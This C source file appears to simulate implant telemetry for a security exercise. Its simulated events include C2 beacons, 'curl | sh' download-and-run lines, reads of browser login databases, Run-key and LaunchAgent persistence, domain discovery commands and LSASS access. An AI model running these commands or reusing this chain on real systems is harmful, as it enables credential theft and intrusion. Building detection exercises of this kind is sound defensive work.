/* SPDX-License-Identifier: Apache-2.0 */
#include "rehearse/implant.h"

#include "rehearse/desk.h"
#include "rehearse/fate.h"

#include <string.h>

#define THREAT "Trojan:Win64/Exercise.A"

/* ---- contacts ---- */

void implant_contacts(struct host *h, const struct product *p, const struct proc *who)
{
	const struct fate *f = &h->fate;
	int64_t end = host_end(h) - MINUTE, step = f->at[REACHED_S5] - f->at[REACHED_S4];

	if (f->uninstalled && f->uninstalled < end)
		end = f->uninstalled;
	if (!f->at[REACHED_S4])
		return;
	if (step <= 0)
		step = HOUR;
	/* About each hour on the first day, then less often: a month stays readable. */
	for (int64_t t = f->at[REACHED_S4], n = 0; t < end && n < 40; t += step, n++) {
		const struct proc *now = p ? desk_process(h, p, t) : who;

		if (now)
			act_talk(h, t, now, h->x->c2);
		if (n)
			step = (n < 20 ? HOUR : 12 * HOUR) +
			       (int64_t)rng_below(&h->rng, 600) * SECOND;
	}
}

/* ---- the second module ---- */

static const char *folder_of(struct host *h, const char *path)
{
	return host_text(h, "%.*s", (int)(file_tail(path) - path), path);
}

static void autostart(struct host *h, int64_t ns, const struct proc *who)
{
	const char *name = h->x->second;

	if (who->system)
		act_service(h, ns, who, name,
			    host_text(h, "C:\\ProgramData\\%s\\%s.exe", name, name));
	else
		act_registry(h, ns, who,
			     host_text(h,
				       "HKU\\S-1-5-21-1111111111-2222222222-3333333333-%"
				       "u\\Software\\Microsoft\\"
				       "Windows\\CurrentVersion\\Run\\%s",
				       1101 + (unsigned)h->index, name),
			     host_text(h, "\"%s\" --background", who->image->path));
}

static void second_windows(struct host *h, int64_t t, const struct proc *who)
{
	const struct image *module = image_new(
		h, (struct image){ .path = host_text(h, "%s%s.dll", folder_of(h, who->image->path),
						     h->x->second),
				   .product = "-",
				   .company = "-",
				   .version = "1.0.0.0",
				   .content = host_text(h, "second module %s", h->x->second) });

	act_write(h, t - 2 * SECOND, who, module);
	act_load(h, t, who, module);
	act_read(h, t + 10 * SECOND, who,
		 "~\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data");
	act_read(h, t + 11 * SECOND, who,
		 "~\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\x1.default\\logins.json");
	autostart(h, t + 31 * SECOND, who);
	if (h->sees == SEES_EDR || rng_below(&h->rng, 3) == 0)
		act_detect(h, t + 40 * SECOND, who, module, THREAT, "Not Applicable");
}

static void second_macos(struct host *h, int64_t t, const struct proc *who)
{
	const char *folder = host_text(h, "~/Library/Application Support/%s", h->x->second);
	const char *item = host_text(h, "~/Library/LaunchAgents/com.%s.agent.plist", h->x->second);
	const struct image *helper =
		image_new(h, (struct image){ .path = host_text(h, "%s/%s", folder, h->x->second),
					     .product = h->x->second,
					     .company = "-",
					     .version = "1.0",
					     .content = "second program" });
	const struct proc *curl, *run;

	curl = act_start(h, t - 9 * SECOND, image_system(h, "/usr/bin/curl"),
			 host_text(h, "curl -s -o %s https://%s/a", helper->path, h->x->c2), who);
	act_talk(h, t - 8 * SECOND, curl, h->x->c2);
	act_write(h, t - 4 * SECOND, curl, helper);
	run = act_start(h, t, helper, helper->path, who);
	act_read(h, t + 10 * SECOND, run,
		 "~/Library/Application Support/Google/Chrome/Default/Login Data");
	act_write_other(h, t + 30 * SECOND, who, item);
	act_agent(h, t + 31 * SECOND, who, host_text(h, "file://%s", item), helper->path);
}

static void second_linux(struct host *h, int64_t t, const struct proc *who)
{
	const char *line = host_text(h, "sh -c curl -fsS https://%s/i | sh", h->x->c2);
	const struct image *helper =
		image_new(h, (struct image){ .path = host_text(h, "/var/tmp/.%s", h->x->second),
					     .product = h->x->second,
					     .company = "-",
					     .version = "1.0",
					     .content = "second program" });
	const struct proc *shell =
		act_start(h, t - 9 * SECOND, image_system(h, "/usr/bin/dash"), line, who);
	const struct proc *curl =
		act_start(h, t - 8 * SECOND, image_system(h, "/usr/bin/curl"),
			  host_text(h, "curl -fsS https://%s/i", h->x->c2), shell);

	act_talk(h, t - 7 * SECOND, curl, h->x->c2);
	act_write(h, t - 4 * SECOND, shell, helper);
	act_start(h, t, helper, helper->path, shell);
}

void implant_fetch(struct host *h, int64_t ns, const struct proc *who)
{
	const char *url = host_text(h, "https://%s/i", h->x->c2);
	const struct proc *shell, *curl;

	if (h->os == OS_WINDOWS) {
		curl = act_start(h, ns, image_system(h, "curl.exe"),
				 host_text(h, "curl.exe -s -o C:\\Windows\\Temp\\i.txt %s", url),
				 who);
		act_talk(h, ns + 2 * SECOND, curl, h->x->c2);
		return;
	}
	shell = act_start(h, ns, image_system(h, "/usr/bin/dash"),
			  host_text(h, "sh -c curl -fsS %s | sh", url), who);
	curl = act_start(h, ns + SECOND, image_system(h, "/usr/bin/curl"),
			 host_text(h, "curl -fsS %s", url), shell);
	act_talk(h, ns + 2 * SECOND, curl, h->x->c2);
}

void implant_second(struct host *h, int64_t ns, const struct proc *who)
{
	if (h->os == OS_WINDOWS)
		second_windows(h, ns, who);
	else if (h->os == OS_MACOS)
		second_macos(h, ns, who);
	else
		second_linux(h, ns, who);
}

/* ---- interactive-style commands ---- */

struct command {
	const char *program, *line;
};

static void commands(struct host *h, int64_t ns, const struct proc *shell,
		     const struct command *list)
{
	for (; list->program; list++) {
		ns += (9 + (int64_t)rng_below(&h->rng, 40)) * SECOND;
		act_start(h, ns, image_system(h, list->program), list->line, shell);
	}
}

void implant_commands(struct host *h, int64_t ns, const struct proc *who)
{
	static const struct command windows[] = {
		{ "whoami.exe", "whoami /all" },
		{ "net.exe", "net group \"Domain Admins\" /domain" },
		{ "nltest.exe", "nltest /domain_trusts" },
		{ "ipconfig.exe", "ipconfig /all" },
		{ "systeminfo.exe", "systeminfo" },
		{ 0 }
	};
	static const struct command macos[] = { { "/usr/bin/id", "id" },
						{ "/usr/bin/security", "security list-keychains" },
						{ "/usr/sbin/system_profiler",
						  "system_profiler SPHardwareDataType" },
						{ 0 } };
	static const struct command linux_[] = { { "/usr/bin/id", "id" },
						 { "/usr/bin/uname", "uname -a" },
						 { "/usr/bin/cat", "cat /etc/passwd" },
						 { 0 } };
	static const char *const shells[][2] = { { "cmd.exe", "cmd.exe /Q" },
						 { "/bin/zsh", "/bin/zsh -i" },
						 { "/usr/bin/bash", "bash -i" } };
	static const struct command *const lists[] = { windows, macos, linux_ };
	const struct proc *shell =
		act_start(h, ns, image_system(h, shells[h->os][0]), shells[h->os][1], who);

	commands(h, ns, shell, lists[h->os]);
	if (h->os == OS_MACOS)
		act_start(h, ns + 4 * MINUTE, image_system(h, "/usr/bin/osascript"),
			  "osascript -e do shell script \"id\"", who);
	if (h->os != OS_WINDOWS)
		return;
	act_start(h, ns + 5 * MINUTE, image_system(h, "whoami.exe"), "whoami /groups", who);
	if (desk_at(h, ns)->lsass)
		act_access(h, ns + 6 * MINUTE, who, desk_at(h, ns)->lsass, "0x1010");
}

/* ---- all of it ---- */

void implant_blocked(struct host *h, int64_t ns, const struct proc *writer,
		     const struct image *file)
{
	act_detect(h, ns, writer, file, THREAT, "Not Applicable");
	act_detect(h, ns + 2 * SECOND, writer, file, THREAT, "Quarantine");
	act_delete(h, ns + 2 * SECOND, desk_at(h, ns)->defender, file->path);
}

/* The scanner names who wrote the file. */
static void blocked(struct host *h, int64_t written, const struct image *file)
{
	for (size_t n = 0; n < h->act_count; n++)
		if (h->acts[n].kind == ACT_WRITE && h->acts[n].ns == written &&
		    strcmp(h->acts[n].name, file->path) == 0) {
			implant_blocked(h, written + 3 * SECOND, h->acts[n].who, file);
			return;
		}
}

void implant(struct host *h)
{
	const struct fate *f = &h->fate;
	const struct product *p = &h->x->product;
	const struct proc *who;

	if (f->blocked && f->at[REACHED_S2])
		blocked(h, f->at[REACHED_S2], image_part(h, p, f->release, PART_LIBRARY));
	implant_contacts(h, p, NULL);
	who = f->at[REACHED_S6] ? desk_process(h, p, f->at[REACHED_S6]) : NULL;
	if (who)
		implant_second(h, f->at[REACHED_S6], who);
	who = f->at[REACHED_S7] ? desk_process(h, p, f->at[REACHED_S7]) : NULL;
	if (who)
		implant_commands(h, f->at[REACHED_S7], who);
}
